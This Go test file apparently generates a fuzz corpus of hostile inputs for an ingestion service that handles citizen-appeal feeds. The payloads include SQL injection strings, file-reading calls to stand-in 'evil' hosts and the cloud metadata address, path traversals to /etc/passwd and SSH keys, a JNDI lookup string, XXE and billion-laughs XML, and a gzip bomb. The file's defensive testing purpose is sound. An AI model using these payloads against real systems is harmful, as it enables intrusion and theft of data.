package hostile

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"
)

// TestCorpusIsGenerated: the committed corpus is exactly what generate() writes, holds at least 300
// cases of every kind the issue names, and every name is unique. TEPLOKARTA_HOSTILE_UPDATE=1 rewrites it.
func TestCorpusIsGenerated(t *testing.T) {
	want, err := Encode(generate(t))
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join("corpus", "cases.jsonl")
	if os.Getenv("TEPLOKARTA_HOSTILE_UPDATE") == "1" {
		if err := os.WriteFile(path, want, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	got, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Fatal("corpus/cases.jsonl differs from generate(): run TEPLOKARTA_HOSTILE_UPDATE=1 go test ./internal/hostile/ and commit it")
	}
	cs, err := Cases()
	if err != nil {
		t.Fatal(err)
	}
	if len(cs) < 300 {
		t.Fatalf("%d cases, want at least 300", len(cs))
	}
	kinds, names := map[string]int{}, map[string]bool{}
	for _, c := range cs {
		kinds[c.Kind]++
		if names[c.Name] {
			t.Errorf("case name %q twice", c.Name)
		}
		names[c.Name] = true
	}
	for _, k := range []string{"injection", "traversal", "date", "encoding", "huge", "nesting", "control", "rtl_emoji", "compressed", "structure"} {
		if kinds[k] == 0 {
			t.Errorf("no %s cases", k)
		}
	}
	t.Logf("%d cases: %v", len(cs), kinds)
}

// Values used alone (filters, variables, paths) and inside messages.
var (
	injections = []string{
		`' OR 1=1 --`, `' OR '1'='1`, `"; DROP TABLE appeals; --`, `'; DROP TABLE appeals; --`, `1) UNION ALL SELECT name, 1 FROM system.tables --`,
		`' UNION SELECT * FROM system.users --`, `RU-RYA' OR region != '`, "\x00' OR 1=1", `\' OR 1=1 --`, "` OR 1=1 --",
		`') OR ('a'='a`, `1; SELECT sleep(3)`, `' AND sleep(3) = 0 --`, `x' FORMAT JSONEachRow --`, `' SETTINGS readonly=0 --`,
		`file('/etc/passwd')`, `url('http://169.254.169.254/latest/meta-data/', 'RawBLOB', 'x String')`, `remote('evil:9000', system.users)`,
		`s3('http://evil/x', 'CSV')`, `' INTO OUTFILE '/tmp/x' --`, `{{.Password}}`, `${jndi:ldap://evil/a}`, `%27%20OR%201%3D1%20--`,
		`?`, `??`, `'?'`, `$1`, `:name`, `{region:String}`, `\N`, `NULL`, `null`, `' || '`, `/* */ OR /**/ 1=1`,
		`ЖКХ' OR category != '`, `Рязань'); DROP TABLE appeal_counts_1m; --`, `0x27204f5220313d31`, `char(39)`, `'` + strings.Repeat("'", 200),
		strings.Repeat(`' OR 1=1 `, 500),
	}
	traversals = []string{
		`../../etc/passwd`, `..%2f..%2fetc%2fpasswd`, `%2e%2e%2f%2e%2e%2fetc%2fpasswd`, `....//....//etc/passwd`, `/etc/passwd`,
		`..\..\windows\win.ini`, `..%5c..%5cwindows`, "../\x00.json", `..%00/`, `%c0%ae%c0%ae/`, `..%c0%af..%c0%afetc`, `%252e%252e%252f`,
		`categories/../../../etc/shadow`, `./././categories`, `categories%2f..%2f..`, `//evil.example/x`, `\\evil\share`, `file:///etc/passwd`,
		`categories?region=RU-MOW`, `categories#x`, `streams/../counts/3`, `counts/../../x`, `.`, `..`, `~/.ssh/id_rsa`,
	}
	dates = []any{
		"0001-01-01T00:00:00Z", "1900-01-01T00:00:00+03:00", "1969-12-31T23:59:59Z", "1999-12-31T23:59:59+03:00", "9999-12-31T23:59:59Z",
		"2262-04-12T00:00:00Z", "2026-13-45T25:61:61+03:00", "", "yesterday", "2026-02-30", float64(0), float64(-1), 1e18, 1.5, true, nil,
		[]any{2026, 1, 1}, map[string]any{"date": "2026-01-01"}, "2026-11-26T09:12:44+99:99", "+275760-09-13T00:00:00Z",
	}
	texts = []string{
		"\u202eтекст справа налево\u202c и обратно", "مرحبا بالعالم — обращение по-арабски", "שלום עולם — иврит", "👨‍👩‍👧‍👦🏳️‍🌈🤦🏽‍♂️ эмодзи ZWJ",
		"Z̷̢̛͔̩a̸̡͎̓l̵̻̈́g̶̣̓o̴̤͒ ̸̨̎т̷е̵к̷с̷т̷", "\u200b\u200c\u200d\ufeff невидимые символы", "𝕿𝖊𝖐𝖘𝖙 математические буквы", "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
		"\U0010FFFF\U000E0001 частные и теги", "🇷🇺🇺🇦🇧🇾 флаги", "ｆｕｌｌｗｉｄｔｈ ＳＥＬＥＣＴ", "Яма\u2028на дороге\u2029в Рязани",
		"\x1b[31mкрасный\x1b[0m ANSI", "строка\r\nX-Injected: 1\r\n\r\n", "<script>alert(1)</script> в тексте", "\x00\x00\x00 NUL в тексте",
		"\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f\x7f управляющие",
		"\u0085\u00a0\u1680\u2000\u3000 пробелы", "i̇ İ ß ẞ ﬁ регистры", "Тест\uFFFDзамены",
	}
)

// generate builds the corpus deterministically from the shared payload fixtures.
func generate(t *testing.T) []Case {
	t.Helper()
	fixture := func(name string) map[string]any {
		b, err := os.ReadFile(filepath.Join("..", "sources", "testdata", "payloads", name))
		if err != nil {
			t.Fatal(err)
		}
		var m map[string]any
		if err := json.Unmarshal(b, &m); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		return m
	}
	// The JSON templates and the paths of their id, text, time and author fields.
	type tmpl struct {
		source           string
		m                map[string]any
		id, text, when   []string
		author, location []string
	}
	tmpls := []tmpl{
		{"vk", fixture("vk_wall_post_new.json"), []string{"object", "id"}, []string{"object", "text"}, []string{"object", "date"}, []string{"object", "from_id"}, []string{"group_id"}},
		{"nashdom", fixture("nashdom_appeal.json"), []string{"id"}, []string{"text"}, []string{"created_at"}, []string{"author_id"}, []string{"address"}},
		{"112", fixture("112_card.json"), []string{"card_id"}, []string{"description"}, []string{"created_at"}, []string{"caller", "phone"}, []string{"address", "oktmo"}},
		{"pos", fixture("pos_message.json"), []string{"id"}, []string{"text"}, []string{"createdAt"}, []string{"author"}, []string{"oktmo"}},
	}
	var out []Case
	add := func(kind, name, ct string, body []byte) {
		out = append(out, Case{Name: kind + "/" + name, Kind: kind, ContentType: ct, Body: body})
	}
	with := func(tp tmpl, path []string, v any) []byte {
		m := clone(tp.m)
		set(m, path, v)
		b, err := json.Marshal(m)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	for i, s := range injections {
		add("injection", fmt.Sprintf("value-%02d", i), "text/plain", []byte(s))
		tp := tmpls[i%len(tmpls)]
		add("injection", fmt.Sprintf("%s-text-%02d", tp.source, i), "application/json", with(tp, tp.text, s))
		add("injection", fmt.Sprintf("%s-id-%02d", tp.source, i), "application/json", with(tp, tp.id, s))
	}
	for i, s := range traversals {
		add("traversal", fmt.Sprintf("value-%02d", i), "text/plain", []byte(s))
	}
	for _, tp := range tmpls {
		for i, d := range dates {
			add("date", fmt.Sprintf("%s-%02d", tp.source, i), "application/json", with(tp, tp.when, d))
		}
	}
	for _, tp := range tmpls[:2] {
		for i, s := range texts {
			add("rtl_emoji", fmt.Sprintf("%s-text-%02d", tp.source, i), "application/json", with(tp, tp.text, s))
		}
	}
	for i, s := range texts[12:] {
		add("control", fmt.Sprintf("value-%02d", i), "text/plain", []byte(s))
	}
	// Encodings: right bytes, wrong label; wrong bytes, right label; mixed; UTF-16; invalid sequences.
	nd := with(tmpls[1], tmpls[1].text, "Во дворе не вывозят мусор, Рязань")
	cp := toCP1251(string(nd))
	enc := []struct {
		name, ct string
		body     []byte
	}{
		{"cp1251-labelled-utf8", "application/json; charset=utf-8", cp},
		{"cp1251-unlabelled", "application/json", cp},
		{"utf8-labelled-cp1251", "application/json; charset=windows-1251", nd},
		{"koi8r-labelled-cp1251", "application/json; charset=windows-1251", toKOI8R(string(nd))},
		{"unknown-charset", "application/json; charset=x-mac-cyrillic-nonsense", nd},
		{"mixed-utf8-cp1251", "application/json", append(append(append([]byte{}, nd[:len(nd)/2]...), cp[len(cp)/2:]...), '}')},
		{"utf16le-bom", "application/json", utf16LE(string(nd), true)},
		{"utf16be-bom", "application/json; charset=utf-16", utf16BE(string(nd))},
		{"utf16le-nobom", "application/json", utf16LE(string(nd), false)},
		{"utf8-bom", "application/json", append([]byte("\xef\xbb\xbf"), nd...)},
		{"invalid-continuation", "application/json", []byte(`{"id":1,"created_at":"2026-11-26T09:12:44+03:00","text":"a` + "\x80\x80\xbf" + `b"}`)},
		{"overlong-slash", "application/json", []byte(`{"id":1,"created_at":"2026-11-26T09:12:44+03:00","text":"` + "\xc0\xaf\xe0\x80\xaf" + `"}`)},
		{"lone-surrogate-escape", "application/json", []byte(`{"id":1,"created_at":"2026-11-26T09:12:44+03:00","text":"\ud800\udfff\ud800 x"}`)},
		{"surrogate-bytes", "application/json", []byte(`{"id":1,"created_at":"2026-11-26T09:12:44+03:00","text":"` + "\xed\xa0\x80" + `"}`)},
		{"truncated-utf8", "application/json", []byte(`{"id":1,"created_at":"2026-11-26T09:12:44+03:00","text":"Рязан` + "\xd1" + `"}`)},
		{"xml-cp1251-declared-utf8", "application/xml", toCP1251(`<?xml version="1.0" encoding="UTF-8"?><card><card_id>1</card_id><created_at>2026-11-26T09:00:00+03:00</created_at><description>Прорыв трубы</description></card>`)},
		{"xml-utf8-declared-cp1251", "application/xml", []byte(`<?xml version="1.0" encoding="windows-1251"?><card><card_id>1</card_id><created_at>2026-11-26T09:00:00+03:00</created_at><description>Прорыв трубы</description></card>`)},
		{"xml-utf16-declared", "application/xml", utf16LE(`<?xml version="1.0" encoding="UTF-16"?><card><card_id>1</card_id></card>`, true)},
		{"xml-unknown-encoding", "application/xml", []byte(`<?xml version="1.0" encoding="EBCDIC-XYZ"?><card><card_id>1</card_id></card>`)},
		{"random-binary", "application/octet-stream", pseudoRandom(4096)},
	}
	for _, e := range enc {
		add("encoding", e.name, e.ct, e.body)
	}
	// Huge fields and bodies, and deep nesting: written as Repeat so the corpus file stays small.
	rep := func(kind, name, ct string, r Repeat) {
		out = append(out, Case{Name: kind + "/" + name, Kind: kind, ContentType: ct, Repeat: &r, Body: r.Bytes()})
	}
	// around splits a template's JSON at path, for a value written by Repeat.
	around := func(tp tmpl, path []string, quoted bool) (head, tail string) {
		const mark = "HOSTILE-MARK"
		var v any = mark
		b := string(with(tp, path, v))
		i := strings.Index(b, `"`+mark+`"`)
		head, tail = b[:i], b[i+len(mark)+2:]
		if quoted {
			head, tail = head+`"`, `"`+tail
		}
		return head, tail
	}
	textRep := func(name string, tp tmpl, path []string, unit string, n int) {
		h, tl := around(tp, path, true)
		rep("huge", name, "application/json", Repeat{Head: h, Unit: unit, N: n, Tail: tl})
	}
	textRep("nashdom-text-300KiB", tmpls[1], tmpls[1].text, "я", 150<<10)
	textRep("nashdom-text-900KiB", tmpls[1], tmpls[1].text, "a", 900<<10)
	textRep("vk-text-2MiB", tmpls[0], tmpls[0].text, "b", 2<<20)
	textRep("pos-text-257KiB", tmpls[3], tmpls[3].text, "ы", 128<<10+1)
	textRep("112-description-600KiB", tmpls[2], tmpls[2].text, "ж", 300<<10)
	textRep("nashdom-id-64KiB", tmpls[1], tmpls[1].id, "9", 64<<10)
	textRep("nashdom-address-200KiB", tmpls[1], tmpls[1].location, "ул. Ленина, ", 17000)
	h, tl := around(tmpls[1], tmpls[1].id, false)
	rep("huge", "nashdom-id-100k-digits", "application/json", Repeat{Head: h, Unit: "9", N: 100000, Tail: tl})
	rep("huge", "float-1e400", "application/json", Repeat{Head: `{"id":1e400,"created_at":"2026-11-26T09:12:44+03:00","text":"x"}`})
	rep("huge", "key-1MiB", "application/json", Repeat{Head: `{"`, Unit: "k", N: 1 << 20, Tail: `":1,"id":1,"created_at":"2026-11-26T09:12:44+03:00","text":"x"}`})
	h, tl = around(tmpls[0], []string{"object", "attachments"}, false)
	rep("huge", "vk-attachments-20000", "application/json", Repeat{Head: h + "[", Unit: `{"type":"link","link":{"url":"https://e.example/x"}},`, N: 20000, Tail: `{"type":"link"}]` + tl})
	rep("huge", "fields-50000-same-key", "application/json", Repeat{Head: `{"id":1,"created_at":"2026-11-26T09:12:44+03:00","text":"x"`, Unit: `,"f":1`, N: 50000, Tail: "}"})
	rep("huge", "array-1M-ints", "application/json", Repeat{Head: "[", Unit: "1,", N: 1 << 20, Tail: "1]"})
	rep("huge", "whitespace-1MiB-then-json", "application/json", Repeat{Unit: " ", N: 1 << 20, Tail: string(nd)})
	rep("huge", "ndjson-200k-blank-lines", "application/x-ndjson", Repeat{Unit: "\n", N: 200000})
	rep("huge", "ndjson-5000-lines", "application/x-ndjson", Repeat{Unit: string(nd) + "\n", N: 5000})
	rep("huge", "ndjson-line-over-cap", "application/x-ndjson", Repeat{Head: string(nd) + "\n" + `{"id":2,"created_at":"2026-11-26T09:12:44+03:00","text":"`, Unit: "x", N: 800 << 10, Tail: `"}` + "\n" + string(nd)})
	rep("huge", "xml-text-1MiB", "application/xml", Repeat{Head: `<card><card_id>1</card_id><created_at>2026-11-26T09:00:00+03:00</created_at><description>`, Unit: "ж", N: 512 << 10, Tail: `</description></card>`})
	for _, d := range []int{64, 1000, 10000, 100000, 1000000} {
		rep("nesting", fmt.Sprintf("json-array-%d", d), "application/json", Repeat{Unit: "[", N: d, Unit2: "]", N2: d})
		rep("nesting", fmt.Sprintf("json-object-%d", d), "application/json", Repeat{Unit: `{"a":`, N: d, Mid: "1", Unit2: "}", N2: d})
		rep("nesting", fmt.Sprintf("json-unclosed-%d", d), "application/json", Repeat{Unit: `[{"x":`, N: d})
		rep("nesting", fmt.Sprintf("xml-%d", d), "application/xml", Repeat{Head: "<card>", Unit: "<a>", N: d, Unit2: "</a>", N2: d, Tail: "</card>"})
	}
	h, tl = around(tmpls[1], tmpls[1].text, false)
	rep("nesting", "nashdom-text-nested-object-5000", "application/json", Repeat{Head: h, Unit: `{"a":`, N: 5000, Mid: "1", Unit2: "}", N2: 5000, Tail: tl})
	add("nesting", "xml-billion-laughs", "application/xml", []byte(`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">]><card><card_id>1</card_id><description>&lol9;</description></card>`))
	add("nesting", "xml-xxe-file", "application/xml", []byte(`<?xml version="1.0"?><!DOCTYPE card [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><card><card_id>1</card_id><created_at>2026-11-26T09:00:00+03:00</created_at><description>&xxe;</description></card>`))
	add("nesting", "xml-xxe-http", "application/xml", []byte(`<?xml version="1.0"?><!DOCTYPE card SYSTEM "http://169.254.169.254/latest"><card><card_id>1</card_id></card>`))
	// Control bytes around and inside the structure.
	ctl := []struct {
		name string
		body []byte
	}{
		{"empty", nil}, {"nul", []byte{0}}, {"nuls-1KiB", make([]byte, 1024)}, {"whitespace", []byte(" \t\r\n ")},
		{"nul-before-json", append([]byte{0}, nd...)}, {"nul-after-json", append(append([]byte{}, nd...), 0)},
		{"nul-in-key", []byte(`{"i\u0000d":1,"id":2,"created_at":"2026-11-26T09:12:44+03:00","text":"x"}`)},
		{"raw-nul-in-string", []byte("{\"id\":1,\"created_at\":\"2026-11-26T09:12:44+03:00\",\"text\":\"a\x00b\"}")},
		{"raw-control-in-string", []byte("{\"id\":1,\"created_at\":\"2026-11-26T09:12:44+03:00\",\"text\":\"a\x01\x1f\x7fb\"}")},
		{"crlf-only", []byte("\r\n\r\n\r\n")}, {"form-feed-json", append([]byte("\f"), nd...)},
		{"xml-control", []byte("<card><card_id>1\x01</card_id><description>\x00</description></card>")},
	}
	for _, c := range ctl {
		add("control", c.name, "application/json", c.body)
	}
	// Compressed bodies: ingest accepts no Content-Encoding, so these are bytes like any other.
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	_, _ = zw.Write(nd)
	_ = zw.Close()
	var bomb bytes.Buffer
	zw, _ = gzip.NewWriterLevel(&bomb, gzip.BestCompression)
	_, _ = zw.Write(make([]byte, 8<<20))
	_ = zw.Close()
	for _, c := range []struct {
		name, enc string
		body      []byte
	}{
		{"gzip-json", "gzip", gz.Bytes()}, {"gzip-json-unlabelled", "", gz.Bytes()}, {"gzip-bomb-8MiB-of-zeros", "gzip", bomb.Bytes()},
		{"deflate-label-plain-body", "deflate", nd}, {"br-label-plain-body", "br", nd}, {"zstd-magic", "zstd", append([]byte{0x28, 0xb5, 0x2f, 0xfd}, pseudoRandom(256)...)},
		{"zip-magic", "", append([]byte("PK\x03\x04"), pseudoRandom(256)...)}, {"gzip-truncated", "gzip", gz.Bytes()[:len(gz.Bytes())/2]},
	} {
		out = append(out, Case{Name: "compressed/" + c.name, Kind: "compressed", ContentType: "application/json", ContentEncoding: c.enc, Body: c.body})
	}
	// Structure: valid JSON of the wrong shape, or almost-JSON.
	for _, tp := range tmpls {
		for i, v := range []any{nil, true, -1, 1.5, 1e308, "", []any{}, map[string]any{}, []any{1, "x"}, strings.Repeat("x", 1000)} {
			add("structure", fmt.Sprintf("%s-id-%02d", tp.source, i), "application/json", with(tp, tp.id, v))
			add("structure", fmt.Sprintf("%s-text-%02d", tp.source, i), "application/json", with(tp, tp.text, v))
		}
		add("structure", tp.source+"-author-object", "application/json", with(tp, tp.author, map[string]any{"$ne": nil}))
		add("structure", tp.source+"-location-array", "application/json", with(tp, tp.location, []any{"' OR 1=1", 1e9}))
	}
	for i, s := range []string{
		`null`, `true`, `0`, `"string"`, `[]`, `{}`, `[{}]`, `{"type":"confirmation"}`, `{"type":"confirmation","group_id":"71234567"}`,
		`{"type":"wall_post_new","object":null}`, `{"id":1}{"id":2}`, `{"id":1} trailing`, `{"id":1,}`, `{id:1}`, `{"id":1 /* c */}`,
		`{"id":NaN}`, `{"id":Infinity}`, `{"id":-0}`, `{"a":1,"a":2,"id":1,"id":"x"}`, `{"__proto__":{"admin":true}}`,
		`<html><body>не JSON</body></html>`, `<?xml version="1.0"?><x/>`, "id,text\n1,Яма", `{"event":"status_changed","id":1,"status":"' OR 1=1"}`,
		`{"event":"status_changed","id":1,"status":"resolved","changed_at":"9999-12-31T23:59:59Z"}`, `{"type":"status","id":"x","status":null}`,
	} {
		add("structure", fmt.Sprintf("doc-%02d", i), "application/json", []byte(s))
	}
	return out
}

func clone(m map[string]any) map[string]any {
	b, _ := json.Marshal(m)
	var out map[string]any
	_ = json.Unmarshal(b, &out)
	return out
}

// set puts v at path, creating objects on the way.
func set(m map[string]any, path []string, v any) {
	for _, k := range path[:len(path)-1] {
		next, ok := m[k].(map[string]any)
		if !ok {
			next = map[string]any{}
			m[k] = next
		}
		m = next
	}
	m[path[len(path)-1]] = v
}

// pseudoRandom is a fixed byte sequence (xorshift), so the corpus is the same on every run.
func pseudoRandom(n int) []byte {
	x := uint32(2463534242)
	out := make([]byte, n)
	for i := range out {
		x ^= x << 13
		x ^= x >> 17
		x ^= x << 5
		out[i] = byte(x)
	}
	return out
}

// toCP1251 encodes Russian letters as windows-1251 and leaves ASCII as it is (the corpus needs the bytes,
// not a full codec).
func toCP1251(s string) []byte {
	var out []byte
	for _, r := range s {
		switch {
		case r < 0x80:
			out = append(out, byte(r))
		case r >= 'А' && r <= 'я':
			out = append(out, byte(r-'А'+0xC0))
		case r == 'ё':
			out = append(out, 0xB8)
		case r == 'Ё':
			out = append(out, 0xA8)
		default:
			out = append(out, '?')
		}
	}
	return out
}

// toKOI8R maps lower- and upper-case Russian letters to KOI8-R's ranges (approximately: the point is
// bytes that decode to nonsense under windows-1251).
func toKOI8R(s string) []byte {
	var out []byte
	for _, r := range s {
		switch {
		case r < 0x80:
			out = append(out, byte(r))
		case r >= 'а' && r <= 'я':
			out = append(out, byte(0xC0+(r-'а')))
		case r >= 'А' && r <= 'Я':
			out = append(out, byte(0xE0+(r-'А')))
		default:
			out = append(out, '?')
		}
	}
	return out
}

func utf16LE(s string, bom bool) []byte {
	var out []byte
	if bom {
		out = append(out, 0xFF, 0xFE)
	}
	for _, u := range utf16.Encode([]rune(s)) {
		out = append(out, byte(u), byte(u>>8))
	}
	return out
}

func utf16BE(s string) []byte {
	out := []byte{0xFE, 0xFF}
	for _, u := range utf16.Encode([]rune(s)) {
		out = append(out, byte(u>>8), byte(u))
	}
	return out
}
